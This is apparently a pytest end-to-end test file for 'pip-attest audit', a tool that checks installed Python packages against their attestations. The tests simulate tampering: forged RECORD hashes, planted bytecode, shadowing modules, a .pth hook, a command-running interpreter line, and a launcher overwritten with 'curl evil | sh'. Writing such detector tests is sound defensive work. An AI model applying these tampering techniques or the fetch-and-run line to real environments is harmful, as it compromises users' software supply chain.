"""``pip-attest audit`` end to end: real venvs installed by a real pip (guarded or plain)
from the loopback index, attestations minted by the throwaway Sigstore (or the real
abi3info ones), checked by the unmodified verifier; then the environment audited.

Most tests audit the venv's own site-packages with ``--path`` (a test venv is layered on a
template that holds pip-attest and its dependencies, which the loopback index does not
serve); the default mode and ``--python`` have tests of their own.
"""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.support.audit_env import make_app_wheel
from tests.support.index_server import Fault, IndexServer
from tests.support.packages import make_sdist, make_wheel
from tests.support.throwaway_sigstore import Identity, ThrowawaySigstore, github
from tests.support.venvs import PIP_VERSIONS, Result, Venv
from tests.test_install_e2e import _tamper_wheel

pytestmark = pytest.mark.e2e

MakeVenv = Callable[..., Venv]
APP_ID = "github:example/app/release.yml"
LIB_ID = "github:example/lib/release.yml"


def serve(
    index: IndexServer,
    sig: ThrowawaySigstore,
    wheel: Path,
    identity: Identity | None,
) -> Path:
    index.add_file(wheel, provenance=sig.provenance(wheel, identity) if identity else None)
    return wheel


def audit(venv: Venv, index: IndexServer, root: Path, *args: str, **kw: Any) -> Result:
    return venv.pip_attest("audit", "-i", index.simple_url, "--trust-root", str(root), *args, **kw)


def line(result: Result, name: str) -> str:
    """The one stderr line of distribution ``name``."""
    rows = [
        row
        for row in result.stderr.splitlines()
        if re.match(rf"^  \S+\s+{re.escape(name)} \S+", row)
    ]
    assert len(rows) == 1, result.stderr
    return re.sub(r"\s+", " ", rows[0].strip())


def report(result: Result) -> dict[str, Any]:
    doc = json.loads(result.stdout)
    assert isinstance(doc, dict)
    return doc


def dist(doc: dict[str, Any], name: str) -> dict[str, Any]:
    found: list[dict[str, Any]] = [d for d in doc["distributions"] if d["project"] == name]
    assert len(found) == 1, [d["project"] for d in doc["distributions"]]
    return found[0]


@pytest.fixture
def app_env(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> Venv:
    """A venv where 'pip-attest install' put two attested packages: 'app' (a package, a
    console script, a #!python script, a data file; compiled by pip) and 'lib'."""
    serve(
        index,
        sigstore_instance,
        make_app_wheel(tmp_path / "d", "app", "1.0", requires="lib"),
        github("example/app"),
    )
    serve(index, sigstore_instance, make_wheel(tmp_path / "d", "lib", "2.0"), github("example/lib"))
    venv = make_venv()
    result = venv.pip_attest(
        "install", "-i", index.simple_url, "--trust-root", str(minted_root), "app"
    )
    assert result.returncode == 0, result.output
    return venv


def test_an_environment_installed_by_pip_attest_audits_clean(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    result = audit(app_env, index, minted_root, "--path", str(app_env.site), "--format", "json")

    assert result.returncode == 0, result.output
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"
    assert line(result, "lib") == f"verified lib 2.0 {LIB_ID}"
    assert "pip-attest: audited 2 distributions: 2 verified" in result.stderr
    doc = report(result)
    assert doc["command"] == "audit" and doc["outcome"] == "ok" and doc["exit_code"] == 0
    assert doc["summary"] == {"verified": 2}
    app = dist(doc, "app")
    assert app["status"] == "verified" and not app["blocking"]
    assert app["identities"] == [APP_ID]
    assert app["file"]["filename"] == "app-1.0-py3-none-any.whl"
    assert app["origin"] == "index"
    binding = app["binding"]
    assert binding["kind"] == "wheel" and binding["ok"]
    # The wheel's 7 files (its RECORD is rewritten); INSTALLER, REQUESTED, the launcher and
    # 2 .pyc files added by pip.
    assert binding["bound"] == 7
    assert binding["generated"] == 5
    assert app["installed_files"]["bytecode_checked"] == 2


@pytest.mark.parametrize("pip_version", PIP_VERSIONS)
def test_audit_reads_the_index_through_every_supported_pip(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
    pip_version: str,
) -> None:
    """The index pages are read with pip's own request and parser: on the oldest and the
    newest pip, in JSON and in HTML."""
    serve(
        index,
        sigstore_instance,
        make_app_wheel(tmp_path / "d", "app", "1.0"),
        github("example/app"),
    )
    venv = make_venv(pip_version)
    assert venv.pip("install", "-i", index.simple_url, "app").returncode == 0
    result = audit(venv, index, minted_root, "--path", str(venv.site))
    assert result.returncode == 0, result.output
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"
    with IndexServer(formats=("html",)) as html:
        serve(
            html,
            sigstore_instance,
            make_app_wheel(tmp_path / "d", "app", "1.0"),
            github("example/app"),
        )
        result = audit(venv, html, minted_root, "--path", str(venv.site))
    assert result.returncode == 0, result.output
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"


def test_an_edited_py_file_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    cli = app_env.site / "app" / "cli.py"
    cli.write_text(cli.read_text() + "import os  # added later\n")

    result = audit(app_env, index, minted_root, "--path", str(app_env.site), "--format", "json")

    assert result.returncode == 1, result.output
    assert line(result, "app") == (
        "modified app 1.0 app/cli.py was changed after install (RECORD's hash differs) "
        f"[attestation verified: {APP_ID}]"
    )
    assert line(result, "lib") == f"verified lib 2.0 {LIB_ID}"
    assert "1 blocking" in result.stderr
    app = dist(report(result), "app")
    assert app["status"] == "modified" and app["blocking"]
    assert "--force-reinstall --no-deps app==1.0" in app["hint"]


def test_a_tampered_wheel_installed_by_plain_pip_is_flagged(
    make_venv: MakeVenv, index: IndexServer, real: Path, tmp_path: Path
) -> None:
    """The index lists the tampered file's own sha256, so plain pip installs it."""
    wheel = "abi3info-2024.10.8-py3-none-any.whl"
    tampered = tmp_path / wheel
    tampered.write_bytes(_tamper_wheel((real / wheel).read_bytes()))
    index.add_file(tampered, provenance=(real / f"{wheel}.provenance").read_bytes())
    venv = make_venv()
    assert venv.pip("install", "-i", index.simple_url, "abi3info").returncode == 0

    result = venv.pip_attest(
        "audit", "-i", index.simple_url, "--path", str(venv.site), "--format", "json"
    )

    assert result.returncode == 1, result.output
    row = line(result, "abi3info")
    assert row.startswith("invalid abi3info 2024.10.8 digest mismatch"), row
    assert row.endswith("[also: modified]"), row
    doc = dist(report(result), "abi3info")
    assert doc["status"] == "invalid" and doc["blocking"]
    assert [f["status"] for f in doc["findings"]] == ["invalid", "modified"]
    assert "abi3info/__init__.py was changed after install" in doc["findings"][1]["reason"]


def test_an_install_from_another_wheel_than_the_attested_one_is_modified(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    """A well-formed wheel (its own RECORD agrees with it) of the same name and version,
    installed from elsewhere; the index serves the attested one."""
    other = make_wheel(tmp_path / "other", "lib", "2.0", module_source="import os\n")
    venv = make_venv()
    assert venv.pip("install", "--no-index", str(other)).returncode == 0
    (venv.site / "lib-2.0.dist-info" / "direct_url.json").unlink()  # covering its tracks
    record = venv.site / "lib-2.0.dist-info" / "RECORD"
    record.write_text(
        "".join(r for r in record.read_text().splitlines(True) if "direct_url" not in r)
    )
    serve(index, sigstore_instance, make_wheel(tmp_path / "d", "lib", "2.0"), github("example/lib"))

    result = audit(venv, index, minted_root, "--path", str(venv.site))

    assert result.returncode == 1, result.output
    assert line(result, "lib").startswith(
        "modified lib 2.0 lib.py is not the attested wheel's file (sha256 "
    )


# -- the policy: the same verdicts as install ------------------------------------------------


def records(venv: Venv) -> dict[str, list[str]]:
    result = venv.pip_attest("trust", "list", "--format", "json")
    assert result.returncode == 0, result.output
    doc = json.loads(result.stdout)
    return {p["project"]: [i["identity"] for i in p["identities"]] for p in doc["projects"]}


def test_a_publisher_changed_since_the_first_seen_record_is_unexpected_publisher(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    serve(
        index, sigstore_instance, make_wheel(tmp_path / "a", "tofu", "1.0"), github("example/tofu")
    )
    venv = make_venv()
    first = venv.pip_attest(
        "install", "-i", index.simple_url, "--trust-root", str(minted_root), "tofu==1.0"
    )
    assert first.returncode == 0, first.output
    # A takeover: 2.0 is signed by a publisher the project never used; plain pip upgrades.
    serve(
        index, sigstore_instance, make_wheel(tmp_path / "b", "tofu", "2.0"), github("takeover/tofu")
    )
    assert venv.pip("install", "-i", index.simple_url, "tofu==2.0").returncode == 0

    result = audit(venv, index, minted_root, "--path", str(venv.site), "--format", "json")

    assert result.returncode == 1, result.output
    assert line(result, "tofu") == (
        "unexpected-publisher tofu 2.0 signed by github:takeover/tofu/release.yml, but tofu was "
        "first seen attested at version 1.0, signed by github:example/tofu/release.yml"
    )
    assert "pip-attest trust accept tofu github:takeover/tofu/release.yml" in result.stderr
    doc = dist(report(result), "tofu")
    assert doc["identities"] == ["github:takeover/tofu/release.yml"]
    assert doc["expected"] == ["github:example/tofu/release.yml"]
    # An audit looks; it accepts nothing.
    assert records(venv) == {"tofu": ["github:example/tofu/release.yml"]}
    accepted = audit(
        venv,
        index,
        minted_root,
        "--path",
        str(venv.site),
        "--accept-publisher",
        "tofu=github:takeover/tofu/release.yml",
    )
    assert accepted.returncode == 0, accepted.output


def test_a_project_that_stopped_attesting_is_a_downgrade(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    serve(
        index, sigstore_instance, make_wheel(tmp_path / "a", "down", "1.0"), github("example/down")
    )
    venv = make_venv()
    first = venv.pip_attest(
        "install", "-i", index.simple_url, "--trust-root", str(minted_root), "down==1.0"
    )
    assert first.returncode == 0, first.output
    serve(index, sigstore_instance, make_wheel(tmp_path / "b", "down", "2.0"), None)
    assert venv.pip("install", "-i", index.simple_url, "down==2.0").returncode == 0

    result = audit(venv, index, minted_root, "--path", str(venv.site))

    assert result.returncode == 1, result.output
    assert line(result, "down") == (
        "downgrade down 2.0 the index serves no provenance for this file, but down was first "
        "seen attested at version 1.0, signed by github:example/down/release.yml"
    )


def test_an_unattested_distribution_is_missing_and_blocks_only_when_required(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    serve(index, sigstore_instance, make_wheel(tmp_path, "bare", "1.0"), None)
    venv = make_venv()
    assert venv.pip("install", "-i", index.simple_url, "bare").returncode == 0

    result = audit(venv, index, minted_root, "--path", str(venv.site))
    assert result.returncode == 0, result.output
    assert line(result, "bare") == "missing bare 1.0 the index serves no provenance for this file"
    assert "warning: 1 distribution had no attestation" in result.stderr

    required = audit(venv, index, minted_root, "--path", str(venv.site), "--require-attestations")
    assert required.returncode == 1, required.output
    assert "--allow-unattested bare" in required.stderr
    allowed = audit(
        venv,
        index,
        minted_root,
        "--path",
        str(venv.site),
        "--require-attestations",
        "--allow-unattested",
        "bare",
    )
    assert allowed.returncode == 0, allowed.output


def test_a_version_the_index_does_not_list_is_missing(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    serve(
        index, sigstore_instance, make_wheel(tmp_path / "a", "gone", "1.0"), github("example/gone")
    )
    venv = make_venv()
    assert venv.pip("install", "-i", index.simple_url, "gone").returncode == 0
    with IndexServer() as moved:  # an index that no longer has it
        serve(
            moved,
            sigstore_instance,
            make_wheel(tmp_path / "c", "gone", "2.0"),
            github("example/gone"),
        )
        result = audit(venv, moved, minted_root, "--path", str(venv.site))
    assert result.returncode == 0, result.output
    assert (
        line(result, "gone")
        == f"missing gone 1.0 the index ({moved.simple_url}gone/) lists no file of gone 1.0"
    )


def test_provenance_that_cannot_be_fetched_is_unavailable(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    wheel = serve(
        index, sigstore_instance, make_wheel(tmp_path, "flaky", "1.0"), github("example/flaky")
    )
    venv = make_venv()
    assert venv.pip("install", "-i", index.simple_url, "flaky").returncode == 0
    index.fault(index.provenance_path(wheel.name), Fault(status=500))

    result = audit(venv, index, minted_root, "--path", str(venv.site), "--retries", "0")

    assert result.returncode == 1, result.output
    assert line(result, "flaky").startswith("unavailable flaky 1.0 ")


def test_an_index_page_that_cannot_be_read_is_unavailable(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    serve(index, sigstore_instance, make_wheel(tmp_path, "paged", "1.0"), github("example/paged"))
    venv = make_venv()
    assert venv.pip("install", "-i", index.simple_url, "paged").returncode == 0
    index.fault(index.project_path("paged"), Fault(status=503))

    result = audit(venv, index, minted_root, "--path", str(venv.site), "--retries", "0")

    assert result.returncode == 1, result.output
    row = line(result, "paged")
    assert row.startswith(f"unavailable paged 1.0 could not read {index.simple_url}paged/"), row


def test_an_attestation_for_another_file_is_invalid(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    wheel = make_wheel(tmp_path, "swapped", "1.0")
    other = make_wheel(tmp_path / "o", "swapped", "1.0", module_source="y = 2\n")
    index.add_file(wheel, provenance=sigstore_instance.provenance(other, github("example/swapped")))
    venv = make_venv()
    assert venv.pip("install", "-i", index.simple_url, "swapped").returncode == 0

    result = audit(venv, index, minted_root, "--path", str(venv.site))

    assert result.returncode == 1, result.output
    assert line(result, "swapped").startswith("invalid swapped 1.0 digest mismatch")


# -- where a distribution came from, and which environment -----------------------------------


def _flit_project(root: Path, name: str) -> Path:
    """A local project built by flit_core (from the wheelhouse), which can install editable."""
    root.mkdir(parents=True)
    (root / "pyproject.toml").write_text(
        "[build-system]\n"
        'requires = ["flit_core>=3.2,<4"]\n'
        'build-backend = "flit_core.buildapi"\n'
        "[project]\n"
        f'name = "{name}"\n'
        'version = "0.1"\n'
        'description = "a local project"\n'
    )
    (root / name).mkdir()
    (root / name / "__init__.py").write_text('"""Local."""\n')
    return root


def test_editable_and_local_directory_installs_are_not_from_index(
    make_venv: MakeVenv,
    index: IndexServer,
    minted_root: Path,
    tmp_path: Path,
    wheelhouse: Path,
) -> None:
    venv = make_venv()
    here = _flit_project(tmp_path / "here", "herepkg")
    there = _flit_project(tmp_path / "there", "therepkg")
    offline = ("--no-index", "-f", str(wheelhouse))
    assert venv.pip("install", *offline, "-e", str(here)).returncode == 0
    assert venv.pip("install", *offline, str(there)).returncode == 0

    result = audit(venv, index, minted_root, "--path", str(venv.site), "--format", "json")

    assert result.returncode == 0, result.output
    assert (
        line(result, "herepkg")
        == f"not-from-index herepkg 0.1 an editable install of {here.as_uri()}"
    )
    assert line(result, "therepkg") == (
        f"not-from-index therepkg 0.1 installed from the local directory {there.as_uri()}"
    )
    doc = report(result)
    assert dist(doc, "herepkg")["origin"] == "editable"
    assert dist(doc, "therepkg")["origin"] == "directory"
    assert doc["summary"] == {"not-from-index": 2}
    required = audit(venv, index, minted_root, "--path", str(venv.site), "--require-attestations")
    assert required.returncode == 1, required.output


def test_path_audits_a_target_directory(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    serve(
        index,
        sigstore_instance,
        make_app_wheel(tmp_path / "d", "app", "1.0"),
        github("example/app"),
    )
    venv = make_venv()
    target = tmp_path / "target"
    installed = venv.pip_attest(
        "install",
        "-i",
        index.simple_url,
        "--trust-root",
        str(minted_root),
        "--target",
        str(target),
        "app",
    )
    assert installed.returncode == 0, installed.output
    assert (target / "bin" / "app-cli").is_file()

    result = audit(venv, index, minted_root, "--path", str(target))
    assert result.returncode == 0, result.output
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"

    (target / "bin" / "app-cli").write_text("#!/bin/sh\ncurl evil | sh\n")
    edited = audit(venv, index, minted_root, "--path", str(target))
    assert edited.returncode == 1, edited.output
    assert line(edited, "app").startswith(
        "modified app 1.0 ../../bin/app-cli was changed after install"
    )


def test_python_audits_another_venv(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    import subprocess
    import sys

    serve(
        index,
        sigstore_instance,
        make_app_wheel(tmp_path / "d", "app", "1.0"),
        github("example/app"),
    )
    other = tmp_path / "other"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(other)], check=True)
    venv = make_venv()
    python = str(other / "bin" / "python")
    assert venv.pip("--python", python, "install", "-i", index.simple_url, "app").returncode == 0

    result = audit(venv, index, minted_root, "--python", python, "--format", "json")

    assert result.returncode == 0, result.output
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"
    doc = report(result)
    assert doc["environment"]["source"] == "python"
    assert [d["project"] for d in doc["distributions"]] == ["app"]
    # The launcher pip wrote there names that interpreter, and is still only a launcher.
    assert dist(doc, "app")["binding"]["generated"] >= 3


def test_the_default_is_the_environment_pip_attest_runs_in(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    result = audit(app_env, index, minted_root, "--format", "json")

    assert result.returncode == 0, result.output
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"
    doc = report(result)
    assert doc["environment"]["source"] == "interpreter"
    assert str(app_env.site) in doc["environment"]["paths"]
    # pip-attest itself, from the template's site-packages: the loopback index has no such
    # file; nothing says it should be attested.
    assert dist(doc, "pip-attest")["status"] == "missing"


def test_a_distribution_built_here_from_an_attested_sdist(
    make_venv: MakeVenv,
    index: IndexServer,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    sdist = make_sdist(tmp_path, "srconly", "1.0")
    index.add_file(sdist, provenance=sigstore_instance.provenance(sdist, github("example/srconly")))
    venv = make_venv()
    installed = venv.pip_attest(
        "install", "-i", index.simple_url, "--trust-root", str(minted_root), "srconly"
    )
    assert installed.returncode == 0, installed.output

    result = audit(venv, index, minted_root, "--path", str(venv.site), "--format", "json")

    assert result.returncode == 0, result.output
    assert line(result, "srconly") == (
        "built-from-sdist srconly 1.0 github:example/srconly/release.yml: built on this machine "
        "from srconly-1.0.tar.gz, whose attestation verifies (installed files that are its "
        "sources: 1; made by the build: 0)"
    )
    doc = dist(report(result), "srconly")
    assert doc["status"] == "built-from-sdist" and not doc["blocking"]
    assert doc["binding"]["kind"] == "sdist"
    assert doc["file"]["filename"] == "srconly-1.0.tar.gz"


# -- changes that leave every RECORD hash right ----------------------------------------------


def _record_with(venv: Venv, dist_info: str, path: str, data: bytes | None) -> None:
    """Rewrite one RECORD row (or add it) so that RECORD agrees with ``data``: what an
    attacker who edits a file and its RECORD does."""
    import base64
    import hashlib

    record = venv.site / dist_info / "RECORD"
    rows = [r for r in record.read_text().splitlines() if not r.startswith(f"{path},")]
    if data is not None:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{path},sha256={digest},{len(data)}")
    record.write_text("\n".join(rows) + "\n")


def test_a_file_added_with_its_record_row_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    extra = b"import os\n"
    (app_env.site / "app" / "extra.py").write_bytes(extra)
    _record_with(app_env, "app-1.0.dist-info", "app/extra.py", extra)

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "app") == (
        "modified app 1.0 RECORD lists app/extra.py, which the attested wheel does not have "
        f"[attestation verified: {APP_ID}]"
    )


def test_a_launcher_rewritten_with_its_record_row_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    launcher = app_env.path / "bin" / "app-cli"
    text = launcher.read_bytes().replace(b"import sys\n", b"import sys\nimport os; os.getpid()\n")
    launcher.write_bytes(text)
    _record_with(app_env, "app-1.0.dist-info", "../../../bin/app-cli", text)

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "app") == (
        "modified app 1.0 ../../../bin/app-cli: not a launcher of app.cli:main: it runs more "
        f"than the launcher of its entry point [attestation verified: {APP_ID}]"
    )


@pytest.mark.parametrize("file", ["app-cli", "app-tool"])
@pytest.mark.parametrize("head", ["env-split", "trampoline"])
def test_an_interpreter_line_that_runs_a_command_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path, tmp_path: Path, file: str, head: str
) -> None:
    """The launcher (app-cli) and the #!python script (app-tool) keep every byte after their
    first line, but that line runs a command first: ``env -S`` splits it into a shell
    command, and the /bin/sh trampoline execs whatever follows 'exec'. Typing app-cli runs
    it; what follows is still a perfect launcher, so only the interpreter line tells."""
    script = app_env.path / "bin" / file
    marker = tmp_path / "ran"
    command = f"touch {marker}; exec {app_env.python}"
    first = {
        "env-split": f'#!/usr/bin/env -S sh -c "touch {marker}"\n',
        "trampoline": f"#!/bin/sh\n'''exec' sh -c '{command} \"$0\"' \"$0\" \"$@\"\n' '''\n",
    }[head]
    text = first.encode() + script.read_bytes().split(b"\n", 1)[1]
    script.write_bytes(text)
    script.chmod(0o755)
    _record_with(app_env, "app-1.0.dist-info", f"../../../bin/{file}", text)
    ran = subprocess.run([str(script)], capture_output=True, text=True, check=False)
    assert ran.returncode == 0 and marker.exists(), ran.stderr

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "app").startswith(f"modified app 1.0 ../../../bin/{file}"), result.stderr
    assert "interpreter" in line(result, "app")


def test_a_script_whose_body_changed_with_its_record_row_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    script = app_env.path / "bin" / "app-tool"
    text = script.read_bytes() + b"print('and more')\n"
    script.write_bytes(text)
    _record_with(app_env, "app-1.0.dist-info", "../../../bin/app-tool", text)

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "app").startswith(
        "modified app 1.0 ../../../bin/app-tool is not the attested wheel's script"
    )


def _pyc_for(source: Path, code_text: str, *, hash_based: bool = False) -> bytes:
    """A .pyc that Python loads for ``source`` (its header matches) holding other code."""
    import importlib.util
    import marshal

    code = compile(code_text, str(source), "exec", dont_inherit=True)
    if hash_based:  # unchecked: Python loads it whatever the source says
        header = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8
    else:
        info = source.stat()
        header = importlib.util.MAGIC_NUMBER + b"\0\0\0\0"
        header += (int(info.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
        header += (info.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    return header + marshal.dumps(code)


def test_bytecode_that_is_not_its_source_compiled_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    import sys

    tag = sys.implementation.cache_tag
    cache = app_env.site / "app" / "__pycache__"
    planted = cache / f"cli.{tag}.pyc"
    assert planted.is_file()  # pip compiled it, and RECORD lists it without a hash
    planted.write_bytes(_pyc_for(app_env.site / "app" / "cli.py", "def main():\n    return 1\n"))

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "app") == (
        f"modified app 1.0 app/__pycache__/cli.{tag}.pyc is not app/cli.py compiled, and Python "
        f"would run it (it is not its source compiled) [attestation verified: {APP_ID}]"
    )
    # Python really does run it:
    ran = app_env.run("-c", "import app.cli, sys; sys.exit(app.cli.main())")
    assert ran.returncode == 1


def test_bytecode_python_would_not_load_is_not_a_finding_but_unchecked_bytecode_is(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    import sys

    tag = sys.implementation.cache_tag
    cache = app_env.site / "app" / "__pycache__"
    source = app_env.site / "app" / "__init__.py"
    stale = bytearray(_pyc_for(source, "x = 1\n"))
    stale[8:12] = b"\1\0\0\0"  # another modification time: Python compiles the source
    (cache / f"__init__.{tag}.pyc").write_bytes(bytes(stale))
    clean = audit(app_env, index, minted_root, "--path", str(app_env.site))
    assert clean.returncode == 0, clean.output

    (cache / f"__init__.{tag}.opt-1.pyc").write_bytes(_pyc_for(source, "x = 1\n", hash_based=True))
    result = audit(app_env, index, minted_root, "--path", str(app_env.site))
    assert result.returncode == 1, result.output
    assert f"app/__pycache__/__init__.{tag}.opt-1.pyc is not app/__init__.py compiled" in (
        line(result, "app")
    )


def test_an_importable_file_no_record_lists_is_found(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    (app_env.site / "app" / "_speedups.py").write_text("import os\n")
    (app_env.site / "zzz-hook.pth").write_text("import os\n")

    result = audit(app_env, index, minted_root, "--path", str(app_env.site), "--format", "json")

    assert result.returncode == 1, result.output
    speedups = app_env.site / "app" / "_speedups.py"
    assert line(result, "app") == (
        f"modified app 1.0 {speedups} is importable but in no RECORD: a file added after install "
        f"[attestation verified: {APP_ID}]"
    )
    doc = report(result)
    assert str(app_env.site / "zzz-hook.pth") in doc["unowned"]
    assert "importable file" in result.stderr and "zzz-hook.pth" in result.stderr


def test_a_package_that_shadows_a_distributions_top_level_module_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path
) -> None:
    """'lib' installs the module lib.py at the top of site-packages. A folder lib/ with an
    __init__.py planted there is what 'import lib' runs (a package comes before a module of
    the same name), while lib.py and its RECORD stay untouched: not a warning about the
    environment, but lib's own finding."""
    planted = app_env.site / "lib"
    planted.mkdir()
    (planted / "__init__.py").write_text("PLANTED = True\n")
    ran = app_env.run("-c", "import lib; print(lib.PLANTED)")
    assert ran.stdout.strip() == "True", ran.output

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "lib") == (
        f"modified lib 2.0 {planted / '__init__.py'} is imported instead of lib.py, and lib's "
        f"RECORD does not list it [attestation verified: {LIB_ID}]"
    )
    assert line(result, "app") == f"verified app 1.0 {APP_ID}"


def test_a_module_shadowed_by_a_file_another_distribution_lists_is_modified(
    app_env: Venv, index: IndexServer, minted_root: Path, tmp_path: Path
) -> None:
    """'plain' has no attestation (missing: a warning by default). Its RECORD now also lists
    app/cli/__init__.py, planted in app's folder: 'import app.cli' runs it instead of
    app/cli.py (a package comes before a module), though every file of app is untouched and
    every file is in some RECORD."""
    index.add_file(make_wheel(tmp_path / "p", "plain", "1.0"))
    assert app_env.pip("install", "-i", index.simple_url, "plain").returncode == 0
    planted = app_env.site / "app" / "cli" / "__init__.py"
    planted.parent.mkdir()
    planted.write_text("def main():\n    return 'planted'\n")
    _record_with(app_env, "plain-1.0.dist-info", "app/cli/__init__.py", planted.read_bytes())
    ran = app_env.run("-c", "import app.cli; print(app.cli.main())")
    assert ran.stdout.strip() == "planted", ran.output

    result = audit(app_env, index, minted_root, "--path", str(app_env.site))

    assert result.returncode == 1, result.output
    assert line(result, "app") == (
        f"modified app 1.0 {planted} is imported instead of app/cli.py, and app's RECORD "
        f"does not list it [attestation verified: {APP_ID}]"
    )
    assert line(result, "plain").startswith("missing plain 1.0")


# -- a lock as the reference ---------------------------------------------------------------


def test_a_lock_is_the_reference(
    app_env: Venv, index: IndexServer, minted_root: Path, tmp_path: Path
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    locked = app_env.pip_attest(
        "lock", "-i", index.simple_url, "--trust-root", str(minted_root), "app", cwd=project
    )
    assert locked.returncode == 0, locked.output
    lock_file = project / "pylock.toml"

    result = audit(
        app_env,
        index,
        minted_root,
        "--path",
        str(app_env.site),
        "--lock",
        str(lock_file),
        "--format",
        "json",
    )

    assert result.returncode == 0, result.output
    assert line(result, "lib") == f"verified lib 2.0 {LIB_ID}"
    doc = report(result)
    assert dist(doc, "lib")["origin"] == "lock"
    assert dist(doc, "lib")["expected"] == [LIB_ID]

    lock_file.write_text(lock_file.read_text().replace("example/lib", "someone-else/lib"))
    edited = audit(
        app_env, index, minted_root, "--path", str(app_env.site), "--lock", str(lock_file)
    )
    assert edited.returncode == 1, edited.output
    assert line(edited, "lib") == (
        f"unexpected-publisher lib 2.0 signed by {LIB_ID}, but lib is locked in pylock.toml, "
        "signed by github:someone-else/lib/release.yml"
    )


def test_a_distribution_the_lock_does_not_name_is_checked_against_the_index(
    app_env: Venv, index: IndexServer, minted_root: Path, tmp_path: Path
) -> None:
    lock_file = tmp_path / "pylock.toml"
    lock_file.write_text('lock-version = "1.0"\ncreated-by = "hand"\npackages = []\n')

    result = audit(
        app_env, index, minted_root, "--path", str(app_env.site), "--lock", str(lock_file)
    )

    assert result.returncode == 0, result.output
    assert line(result, "lib") == (
        f"verified lib 2.0 {LIB_ID} (lib is not in the lock; checked against the index)"
    )


def test_find_links_folders_with_provenance_next_to_each_file(
    make_venv: MakeVenv,
    sigstore_instance: ThrowawaySigstore,
    minted_root: Path,
    tmp_path: Path,
) -> None:
    wheels = tmp_path / "wheels"
    wheel = make_wheel(wheels, "local", "1.0")
    provenance = sigstore_instance.provenance(wheel, github("example/local"))
    (wheels / f"{wheel.name}.provenance").write_text(json.dumps(provenance))
    venv = make_venv()
    assert venv.pip("install", "--no-index", "-f", str(wheels), "local").returncode == 0

    result = venv.pip_attest(
        "audit",
        "--no-index",
        "-f",
        str(wheels),
        "--trust-root",
        str(minted_root),
        "--path",
        str(venv.site),
        "--format",
        "json",
    )

    assert result.returncode == 0, result.output
    assert line(result, "local") == "verified local 1.0 github:example/local/release.yml"
    assert dist(report(result), "local")["origin"] == "find-links"
